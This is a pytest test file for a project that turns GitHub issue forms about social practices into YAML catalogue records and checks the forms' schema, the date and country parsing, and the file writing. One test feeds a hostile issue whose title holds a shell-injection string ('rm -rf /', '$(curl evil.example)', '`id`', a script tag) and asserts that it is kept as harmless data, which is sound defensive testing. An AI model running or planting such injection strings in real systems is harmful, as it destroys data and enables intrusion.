"""The issue forms are those of the models, the code host accepts them, and what they are filled with becomes a record that passes the checker."""

from __future__ import annotations

import json
import re
import shutil
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import from_issue
from catalogue.bibliography import Custom, Source
from catalogue.check import check
from catalogue.contribution.forms import NAMES, issue_forms
from catalogue.contribution.papers import BUSY, CLOSED, PLACE, REPLY
from catalogue.contribution.questions import FORMS, PRACTICE, Question
from catalogue.contribution.reply import Sent, files_of, sent
from catalogue.contribution.values import as_date, chosen, country_codes, slug
from catalogue.contribution.writer import file_text, with_relation
from catalogue.geography import suggested_code
from catalogue.guideline import ISSUE_FORMS
from catalogue.load import load
from catalogue.model import Catalogue
from catalogue.problem import Severity
from catalogue.record import Record, Text
from catalogue.render.reader import Reader
from catalogue.shape import Shape
from catalogue.yaml12 import read
from conftest import LANGUAGES, ROOT, small_library

EVENTS = Path(__file__).parent / "events"
FOLDER = ROOT / ".github" / "ISSUE_TEMPLATE"
FILES = sorted(path.name for path in FOLDER.glob("*.yml") if path.name != "config.yml")


@pytest.fixture(scope="module")
def catalogue(tmp_path_factory: pytest.TempPathFactory) -> Catalogue:
    """The small library of the checker's examples, with the project's vocabularies, words and map."""
    return Catalogue(load(small_library(tmp_path_factory.mktemp("issues"), "locale", "geodata")))


@pytest.fixture
def library(catalogue: Catalogue, tmp_path: Path) -> Path:
    """A copy of it to write into."""
    return Path(shutil.copytree(catalogue.root, tmp_path / "library"))


def form(name: str) -> dict[str, Any]:
    """One form as the code host reads it."""
    made = yaml.safe_load((FOLDER / name).read_text("utf-8"))
    assert isinstance(made, dict)
    return made


def asked(name: str) -> list[dict[str, Any]]:
    """The elements of a form that take an answer."""
    return [element for element in form(name)["body"] if element["type"] != "markdown"]


# --- the forms ------------------------------------------------------------------------------------------------------


def test_the_committed_forms_are_those_of_the_models() -> None:
    """They are made by "make schema", also after a word of the interface is translated, and never edited."""
    made = dict(issue_forms(Catalogue(load(ROOT))))
    assert {path.name for path in FOLDER.iterdir()} == set(made)
    stale = [name for name, text in made.items() if (FOLDER / name).read_text("utf-8") != text]
    assert stale == [], "run make schema"
    assert set(ISSUE_FORMS) == set(NAMES), "what pages can link to"


@pytest.mark.parametrize(("schema", "names"), [("github-issue-forms", FILES), ("github-issue-config", ["config.yml"])])
def test_the_forms_follow_the_published_schema(schema: str, names: list[str]) -> None:
    command = [sys.executable, "-m", "check_jsonschema", "--builtin-schema", f"vendor.{schema}", *(str(FOLDER / name) for name in names)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stdout + done.stderr


RESERVED = {"title", "body", "labels", "assignees", "milestone", "projects", "template"}
"""What these names mean in an address that opens a new issue: a question of that name could not be filled in by a link."""


@pytest.mark.parametrize("name", FILES)
def test_the_code_host_accepts_the_form(name: str) -> None:
    """The rules that its schema does not tell, from its page on common validation errors."""
    elements = asked(name)
    ids = [element["id"] for element in elements]
    labels = [element["attributes"]["label"] for element in elements]
    boxes = [option["label"] for element in elements if element["type"] == "checkboxes" for option in element["attributes"]["options"]]
    assert len(ids) == len(set(ids))
    assert not RESERVED & set(ids)
    assert len({re.sub(r"[\W_]+", "-", label.casefold()) for label in labels + boxes}) == len(labels + boxes)
    assert not [label for label in labels if re.search("password|secret|token|api.?key", label, re.IGNORECASE)]
    for element in elements:
        options = [option for option in element["attributes"].get("options", ()) if isinstance(option, str)]
        assert len(options) == len(set(options))
        assert "none" not in {option.casefold() for option in options}
        assert all(not isinstance(yaml.safe_load(option), bool) for option in options)
        assert all(value.strip() for value in element["attributes"].values() if isinstance(value, str))


@pytest.mark.parametrize("kind", FORMS)
def test_a_form_asks_the_same_in_every_language(kind: str) -> None:
    """An answer must be found again whichever language it was given in, so no two questions of a form bear the same name."""
    first, *others = (f"{kind}.yml", *(f"{kind}-{language}.yml" for language in LANGUAGES[1:]))
    for name in others:
        assert [(element["type"], element["id"]) for element in asked(name)] == [(element["type"], element["id"]) for element in asked(first)]


def test_the_form_asks_for_all_that_no_record_can_do_without() -> None:
    """Its state is the editors' matter; the rest is required by the models."""

    def required(shape: type[Shape], *path: str) -> set[tuple[str, ...]]:
        return {(*path, info.alias or name) for name, info in shape.model_fields.items() if info.is_required()}

    needed = required(Record) | required(Text, "text") | required(Source, "source") | required(Custom, "source", "custom")
    asked_for = {question.path for question in PRACTICE if question.required}
    groups = {("status",), ("text",), ("source", "custom"), ("sources",), ("places",)}
    assert needed - groups == asked_for - {("places", "country")}


def test_links_can_fill_in_what_they_say() -> None:
    """The code host fills in single lines and boxes only; with a dropdown in a link it shows no form at all."""
    kinds = {element["id"]: element["type"] for name in ("adoption.yml", "correction.yml") for element in asked(name)}
    assert kinds["practice"] == kinds["field"] == "input"


# --- filled forms -----------------------------------------------------------------------------------------------------

ANSWERS = {
    "practice-title": "A reading club for parents, Exampletown",
    "summary": "Parents meet once a week and read together.",
    "country": "Denmark",
    "source-title": "Reading club: one year",
    "source-address": "https://town.example/reading",
    "source-publisher": "Exampletown",
    "source-year": "31.5.2024",
    "challenge": "Parents had nobody to talk to. The library was empty on Mondays, and the town was looking for something to do with it.",
    "approach": "They meet on Mondays.\r\n\r\n\r\nA librarian reads with them: slowly.  \r\n\r\n- tea\r\n- books",
    "preconditions": "- A room\n- Books: many\n\n3) no money",
    "results": "The town says that 40 parents came.",
    "users-view": "yes",
    "difficulties": "Few fathers came. 'Why?' \"Because.\"",
    "transfer": "Two other towns asked. # not a comment",
    "lead": "NO",
    "locality": "Exampletown",
    "start": "2016",
    "end": "6.2019",
    "more": "It cost 3,000 euros, says page 4.",
}


def body(kind: str, reader: Reader, answers: dict[str, str]) -> str:
    """The text of an issue as the code host writes it for a filled form."""
    parts = [f"### {question.name(reader)}\n\n{answers.get(question.id, '_No response_')}" for question in FORMS[kind]]
    return "\n\n".join([*parts, "### Before you send it\n\n- [x] Yes"]).replace("### Before you send it", f"### {reader.say('Before you send it')}")


def chosen_in(reader: Reader, questions: tuple[Question, ...] = PRACTICE) -> dict[str, str]:
    """For every question with choices the first, the last for one, and for several the first three and the last."""
    found = {}
    for question in questions:
        words = list(question.choices(reader).values())
        if words:
            found[question.id] = ", ".join([*words[:3], words[-1]]) if question.control == "terms" else words[-1]
    return found


def made(text: str, catalogue: Catalogue, **more: Any) -> dict[str, str]:
    """What becomes of an issue with this text."""
    issue = sent({"issue": {"number": 12, "body": text, "user": {"login": "octocat", "id": 583231}, "html_url": "https://github.com/o/r/issues/12", **more}})
    return from_issue.papers_of(issue, catalogue)


def records(papers: dict[str, str]) -> dict[str, Any]:
    """The proposed files as data, by folder."""
    return {name.split("/")[1]: read(text).data for name, text in papers.items() if name.startswith("files/")}


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_filled_form_becomes_the_same_record_in_every_language(language: str, catalogue: Catalogue) -> None:
    """Every answer lands in its field, whatever it looks like to a reader of YAML."""
    reader = Reader(catalogue, language)
    papers = made(body("practice", reader, ANSWERS | chosen_in(reader) | {"language": reader_language("fi", reader)}), catalogue)
    terms = {name: list(catalogue.terms[name]) for name in ("target-groups", "sectors", "activity-states", "source-perspectives", "source-readings")}
    assert records(papers)["practices"] == {
        "status": "published",
        "language": "fi",
        "places": [{"country": "DK", "locality": "Exampletown"}],
        "phases": [{"start": 2016, "end": "2019-06"}],
        "activity": {"state": terms["activity-states"][-1], "sources": ["reading-club-one-year"]},
        "organisations": [{"name": "NO", "role": "lead"}],
        "sectors": [*terms["sectors"][:3], terms["sectors"][-1]],
        "target_groups": [*terms["target-groups"][:3], terms["target-groups"][-1]],
        "text": {
            "fi": {
                "title": ANSWERS["practice-title"],
                "summary": ANSWERS["summary"],
                "challenge": ANSWERS["challenge"],
                "approach": "They meet on Mondays.\n\nA librarian reads with them: slowly.\n\n- tea\n- books",
                "preconditions": ["A room", "Books: many", "no money"],
                "results": ANSWERS["results"],
                "users_view": "yes",
                "difficulties": ANSWERS["difficulties"],
                "transfer": ANSWERS["transfer"],
            }
        },
        "sources": ["reading-club-one-year"],
    }
    assert records(papers)["sources"] == {
        "type": "webpage",
        "title": ANSWERS["source-title"],
        "publisher": "Exampletown",
        "issued": "2024-05-31",
        "URL": ANSWERS["source-address"],
        "custom": {"perspective": terms["source-perspectives"][-1], "reading": terms["source-readings"][-1]},
    }
    assert "3,000 euros, says page 4." in papers["description.md"]
    assert papers["commit.txt"].endswith("Co-authored-by: octocat <583231+octocat@users.noreply.github.com>\n")
    for name, message in (("busy.md", BUSY), ("closed.md", CLOSED)):
        assert papers[name] == f"{REPLY}\n{reader.say(message, address=PLACE)}\n", "what went nowhere is told in the sender's language too"


def reader_language(code: str, reader: Reader) -> str:
    """A language as the form shows it."""
    (question,) = [question for question in PRACTICE if question.id == "language"]
    return question.choices(reader)[code]


CASES = {
    "practice": ["practices/a-reading-club-for-parents-exampletown.yaml", "sources/reading-club-one-year.yaml"],
    "adoption": ["practices/a-bicycle-kitchen-like-theirs-sampletown.yaml", "sources/we-do-this-too-a-bicycle-kitchen-like-theirs-sampletown.yaml"],
    "adoption-known": ["practices/language-cafe.yaml"],
}


@pytest.mark.parametrize("case", CASES)
def test_an_event_of_the_code_host_becomes_files_that_pass_the_checker(case: str, library: Path, tmp_path: Path) -> None:
    """The command runs as the workflow runs it."""
    run_on(f"issues.labeled.{case}.json", library, tmp_path / "out")
    written = sorted((tmp_path / "out" / "files.txt").read_text("utf-8").split())
    assert written == CASES[case]
    problems = check(load(library), set(written))
    assert [str(problem) for problem in problems] == []


def run_on(event: str, library: Path, into: Path) -> None:
    command = [sys.executable, str(ROOT / "scripts/from_issue.py"), "--root", str(library), str(EVENTS / event), str(into)]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 0, done.stderr


def test_a_hostile_event_leaves_data_and_nothing_else(library: Path, tmp_path: Path) -> None:
    """Shell, HTML, Markdown, YAML, control characters and paths in every answer: the checker tells, nothing runs, no file lies elsewhere."""
    before = {path for path in tmp_path.rglob("*") if path.is_file()}
    run_on("issues.labeled.hostile.json", library, tmp_path / "out")
    new = {path.relative_to(tmp_path).as_posix() for path in tmp_path.rglob("*") if path.is_file()} - {path.relative_to(tmp_path).as_posix() for path in before}
    name = "rm-rf-curl-evil-example-id-script-alert-1-script-octocat"
    assert {path for path in new if not path.startswith("out/")} == {f"library/practices/{name}.yaml", "library/sources/title-x-type-y.yaml"}
    record = read((library / "practices" / f"{name}.yaml").read_text("utf-8"))
    assert record.refusals == []
    assert record.data["text"]["en"]["title"].startswith('"; rm -rf / #$(curl evil.example) `id` <script>')
    assert record.data["organisations"] == [{"name": "null", "role": "lead"}]
    commit = (tmp_path / "out" / "commit.txt").read_text("utf-8")
    assert "Co-authored-by" not in commit
    assert "octocat" not in commit.replace(name, "")
    description = (tmp_path / "out" / "description.md").read_text("utf-8")
    assert "Closes #12" in description
    assert re.findall(r"[@#]\w+", description) == ["#12", "#8203", "#8203", "#12"]
    assert not re.search(r"(?<!&lt;/)<", description)
    rules = {problem.rule for problem in check(load(library)) if problem.severity is Severity.ERROR}
    assert rules == {"wrong-form", "date", "raw-html", "markup"}


def test_missing_answers_are_named_and_nothing_is_written(catalogue: Catalogue) -> None:
    papers = made(body("practice", Reader(catalogue, "sv"), {"practice-title": "En läsecirkel"}), catalogue)
    assert set(papers) == {"reply.md"}
    needed = [question.name(Reader(catalogue, "sv")) for question in PRACTICE if question.required and question.id != "practice-title"]
    assert all(f"“{name}”" in papers["reply.md"] or f"”{name}”" in papers["reply.md"] for name in needed)


@pytest.mark.parametrize(
    ("text", "sentence"),
    [
        (None, "This is not one of our forms"),
        ("We have a nice reading club.", "This is not one of our forms"),
        ("### Title\n\nOnly one heading", "This is not one of our forms"),
        ("practices/../x.yaml\n\n```yaml\na: b\n```", "This is not one of our forms"),
        ("a" * 80_000, "too long"),
    ],
)
def test_what_is_no_form_gets_a_kind_sentence(text: str | None, sentence: str, catalogue: Catalogue) -> None:
    issue = {"number": 1, "body": text, "labels": [{"name": "practice"}]}
    papers = from_issue.papers_of(sent({"issue": issue}), catalogue)
    assert set(papers) == {"reply.md"}
    assert sentence in papers["reply.md"]


def test_an_issue_about_something_else_gets_no_reply(catalogue: Catalogue) -> None:
    """It may only speak of practices/x.yaml; nobody asked for a proposal."""
    for labels in (None, [], [{"name": "bug"}, None]):
        papers = from_issue.papers_of(sent({"issue": {"number": 1, "body": "In practices/x.yaml the year is wrong.", "labels": labels}}), catalogue)
        assert papers == {"reply.md": ""}


def test_a_correction_is_left_to_people(catalogue: Catalogue) -> None:
    text = body("correction", Reader(catalogue, "de"), {"practice": "practices/bicycle-kitchen.yaml", "wrong": "The year."})
    assert made(text, catalogue, labels=[{"name": "correction"}]) == {"reply.md": ""}


@pytest.mark.parametrize("payload", [{}, [], {"issue": None}, {"issue": {"number": "1; x"}}, {"issue": {"number": 0}}])
def test_an_event_without_an_issue_is_refused(payload: object) -> None:
    with pytest.raises(ValueError, match="no issue"):
        sent(payload)


def test_an_unreadable_event_is_a_wrong_use(tmp_path: Path) -> None:
    (tmp_path / "event.json").write_text("[" * 100_000, "utf-8")
    command = [sys.executable, str(ROOT / "scripts/from_issue.py"), str(tmp_path / "event.json"), str(tmp_path / "out")]
    done = subprocess.run(command, capture_output=True, text=True, check=False)
    assert done.returncode == 2
    assert "Traceback" not in done.stderr


def test_the_files_that_the_form_on_the_site_writes_are_taken_as_they_are(catalogue: Catalogue) -> None:
    event = json.loads((EVENTS / "issues.labeled.files.json").read_text("utf-8"))
    papers = from_issue.papers_of(sent(event), catalogue)
    assert {name for name in papers if name.startswith("files/")} == {"files/practices/another-bicycle-kitchen.yaml", "files/sources/town-report-two.yaml"}
    assert files_of("sources/x.yaml\n\n```yaml\na: b\n```\n") == {"sources/x.yaml": "a: b\n"}


def test_a_source_that_the_library_has_is_not_made_again(catalogue: Catalogue) -> None:
    reader = Reader(catalogue, "en")
    for known in ({"source-title": "town-page"}, {"source-title": "PLACES to meet", "source-address": ""}, {"source-address": "http://town.example/places/"}):
        papers = made(body("practice", reader, ANSWERS | chosen_in(reader) | {"source-address": "_No response_"} | known), catalogue)
        assert records(papers)["practices"]["sources"] == ["town-page"]
        assert "sources" not in records(papers)


def test_an_adoption_names_its_practice_or_is_told_how(catalogue: Catalogue) -> None:
    reader = Reader(catalogue, "en")
    answers = ANSWERS | chosen_in(reader, FORMS["adoption"])
    for named in ("bicycle-kitchen", "https://x.example/da/practices/bicycle-kitchen/#results", "practices/bicycle-kitchen.yaml"):
        (relation,) = records(made(body("adoption", reader, answers | {"practice": named, "kept": "The key."}), catalogue))["practices"]["relations"]
        assert relation == {"kind": "adopted-from", "practice": "bicycle-kitchen", "kept": {"uk": "The key."}, "sources": relation["sources"]}
    assert "Did you mean “bicycle-kitchen”?" in made(body("adoption", reader, answers | {"practice": "bicycle-kitchens"}), catalogue)["reply.md"]
    assert "There is no practice" in made(body("adoption", reader, answers | {"practice": "Über uns ` <b>"}), catalogue)["reply.md"]
    same = answers | {"practice": "bicycle-kitchen", "own-practice": "bicycle-kitchen"}
    assert "are the same" in made(body("adoption", reader, same), catalogue)["reply.md"]


def test_a_heading_that_somebody_typed_takes_no_other_answers_place(catalogue: Catalogue) -> None:
    reader = Reader(catalogue, "en")
    typed = ANSWERS | chosen_in(reader) | {"results": "It worked.\n\n### Title\n\nAnother\n\n### Country\n\nXX"}
    record = records(made(body("practice", reader, typed), catalogue))["practices"]
    assert record["places"] == [{"country": "DK", "locality": "Exampletown"}]
    (text,) = record["text"].values()
    assert text["title"] == ANSWERS["practice-title"]
    assert "### Country" in text["results"]


ODD = st.text(alphabet=st.sampled_from("ab äøß—“'\"`:#-?&*!|>%@{}[],\\<=~0129.\n\t\x00\x1b\u200b\u202e\u2028\U0001f600"), max_size=80)


@given(answers=st.fixed_dictionaries({question.id: ODD for question in PRACTICE if question.control != "language"}))
@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
def test_no_answer_is_lost_and_every_file_can_be_read(answers: dict[str, str], catalogue: Catalogue) -> None:
    """Whatever is typed: the files are YAML without a refusal, and each word of an answer stands in them or in the words beside them."""
    reader = Reader(catalogue, "en")
    papers = made(body("practice", reader, answers | {"language": "English"}), catalogue)
    data = [read(text) for name, text in papers.items() if name.startswith("files/")]
    assert all(reading.complete and reading.refusals == [] for reading in data)
    if not data:
        return
    kept = [str(value) for reading in data for value in leaves(reading.data)] + [papers["description.md"].replace("\\", "")]
    whole = re.sub(r"\W", "", " ".join(kept))
    for answer in answers.values():
        for word in re.findall(r"[abäøß]+", re.sub("[\x00\x1b\u200b\u202e\u2028]", "", answer)):
            assert word in whole, (word, papers)


def leaves(data: Any) -> Iterator[Any]:
    """Every value and every name in some data."""
    if isinstance(data, dict):
        for key, value in data.items():
            yield key
            yield from leaves(value)
    elif isinstance(data, list):
        for value in data:
            yield from leaves(value)
    else:
        yield data


# --- the pieces -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", sorted((ROOT / "practices").glob("*.yaml"))[::4], ids=lambda path: path.stem)
def test_what_the_writer_writes_reads_back_equal(path: Path) -> None:
    data = read(path.read_text("utf-8")).data
    again = read(file_text(data, Record))
    assert again.refusals == []
    assert again.data == data


@pytest.mark.parametrize("path", sorted((ROOT / "practices").glob("*.yaml"))[::8], ids=lambda path: path.stem)
def test_a_relation_is_added_and_nothing_else_changes(path: Path) -> None:
    text = path.read_text("utf-8")
    added = with_relation(text, "  - kind: adopted-from\n    practice: another\n")
    assert added is not None
    before, after = read(text).data, read(added).data
    assert after["relations"] == [*before.get("relations", []), {"kind": "adopted-from", "practice": "another"}]
    assert {**before, "relations": 0} == {**after, "relations": 0}
    assert set(text.splitlines()) <= set(added.splitlines())


def test_relations_in_one_line_are_left_to_an_editor() -> None:
    assert with_relation("relations: [{kind: related, practice: x}]\ntext: {}\n", "  - kind: x\n") is None
    assert with_relation("sources: [a]", "  - kind: x\n") == "relations:\n  - kind: x\nsources: [a]"


@pytest.mark.parametrize(
    ("said", "meant"),
    [
        ("2016", 2016),
        ("2016-05", "2016-05"),
        ("5.2016", "2016-05"),
        ("31.5.2016", "2016-05-31"),
        ("31. 5. 2016", "2016-05-31"),
        ("May 2016", "May 2016"),
        ("5/6/2016", "5/6/2016"),
    ],
)
def test_a_date_is_read_as_it_is_spoken_and_never_guessed(said: str, meant: int | str) -> None:
    """Which of 5/6/2016 is the month nobody knows; the checker asks."""
    assert as_date(said) == meant


def test_countries_are_found_by_their_names_in_every_language() -> None:
    assert country_codes("Sverige, Danmark; Deutschland / SE, uk, Atlantis", LANGUAGES) == ["SE", "DK", "DE", "GB", "Atlantis"]


def test_a_language_typed_as_a_country_is_never_taken_for_another_country() -> None:
    """ "sv" is asked about, since both Sweden and El Salvador are possible; with capitals it is El Salvador's code."""
    assert country_codes("sv, da, dk, fi, en, SV", LANGUAGES) == ["sv", "DK", "FI", "en", "SV"]
    assert [suggested_code("country", code, ("en", "sv", "et", "pt")) for code in ("sv", "SV", "et", "da", "en", "pt")] == ["SE", "SV", "EE", None, None, "PT"]


def test_terms_with_commas_in_them_are_found() -> None:
    choices = {"a": "Young people", "b": "Young people, out of work", "c": "Women"}
    assert chosen("Young people, Young people, out of work, Unknown, Women", choices) == ["a", "b", "Unknown", "c"]


@pytest.mark.parametrize(
    ("title", "name"), [("Ett språkkafé på Åland", "ett-sprakkafe-pa-aland"), ("Æbler & Øl", "aebler-ol"), ("日本", ""), ("a" * 40 + " " + "b" * 40, "a" * 40)]
)
def test_a_title_becomes_a_file_name(title: str, name: str) -> None:
    assert slug(title) == name


def test_only_what_looks_like_an_account_is_credited() -> None:
    """A name with a line end could write further lines of the commit."""
    for login in ("octo cat", "x\nCo-authored-by: y", "-x", "x" * 40, None, 5):
        assert sent({"issue": {"number": 1, "body": "", "user": {"login": login, "id": 1}}}).author is None
    assert isinstance(sent({"issue": {"number": 1, "user": {"login": "octo-cat", "id": 1}}}), Sent)
